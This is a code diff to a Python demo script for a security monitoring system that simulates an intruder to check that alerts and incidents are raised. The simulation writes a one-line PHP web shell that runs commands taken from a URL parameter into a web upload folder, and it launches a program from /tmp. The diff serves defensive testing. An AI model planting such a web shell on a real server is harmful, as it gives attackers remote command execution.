@@ -17,6 +17,7 @@ import signal
 import subprocess
 import sys
 import time
+from datetime import UTC, datetime, timedelta
 from pathlib import Path
 from typing import Any
 
@@ -130,12 +131,17 @@ def wait(what: str, check: Any, timeout_s: float) -> Any:
     sys.exit(f"demo: timed out waiting for {what}; see the logs in the demo directory")
 
 
+def _when(timestamp: str) -> datetime:
+    return datetime.fromisoformat(timestamp.replace("Z", "+00:00"))
+
+
 def act_like_an_intruder() -> None:
     say("doing suspicious things on this machine")
     upload = WEB_ROOT / "uploads"
     upload.mkdir(parents=True, exist_ok=True)
-    (upload / "thumb.php").write_text('<?php system($_GET["c"]); ?>\n')
-    print(f"    dropped {upload / 'thumb.php'}")
+    shell = upload / f"thumb-{int(time.time())}.php"  # a new name each run: a creation, not a change
+    shell.write_text('<?php system($_GET["c"]); ?>\n')
+    print(f"    dropped {shell}")
     tool = Path("/tmp/canhgac-demo-tool")  # noqa: S108 - the point: a program started from /tmp
     shutil.copy("/bin/true", tool)
     subprocess.run([str(tool)], check=False)
@@ -172,22 +178,26 @@ def main() -> int:
     print(f"    agent {agents[0]['agent']['id']} on {agents[0]['host']['name']} reports in")
     time.sleep(3)  # let the file sensor finish its first baseline of the web root
 
+    run_started = datetime.now(UTC) - timedelta(seconds=1)
     act_like_an_intruder()
     say("waiting for the alerts to come through Kafka, the Sigma engine and Elasticsearch")
 
     def alerts_seen() -> list[dict[str, Any]] | None:
         items = client.get("/alerts", params={"limit": 100}).json()["items"]
-        names = {item["rule_name"] for item in items}
-        return items if names >= EXPECTED_RULES else None
+        this_run = [item for item in items if _when(item["timestamp"]) >= run_started]
+        names = {item["rule_name"] for item in this_run}
+        return this_run if names >= EXPECTED_RULES else None
 
     alerts = wait("the expected alerts", alerts_seen, 120)
     for alert in sorted(alerts, key=lambda a: a["timestamp"]):
         print(f"    {alert['timestamp'][:19]}  {alert['level']:<8} {alert['message'][:100]}")
 
     say("the incident they opened, acknowledged through the API")
-    incidents = wait("an incident", lambda: client.get("/incidents").json()["items"], 60)
-    reverse_shell_incidents = [i for i in incidents if "Reverse shell" in i["title"]] or incidents
-    incident = next((i for i in reverse_shell_incidents if i["status"] == "new"), reverse_shell_incidents[0])
+    reverse_shell = next(a for a in alerts if a["rule_name"] == "Reverse shell command line")
+    incident_id = reverse_shell["incident_id"]
+    incident = wait(
+        "its incident", lambda: client.get(f"/incidents/{incident_id}").json().get("incident"), 60
+    )
     print(f"    incident {incident['id']}: {incident['title']} — priority {incident['priority']}")
     print(f"    why grouped: {incident['grouping']['reason']}")
     print(f"    why this priority: {incident['priority_reason']}")
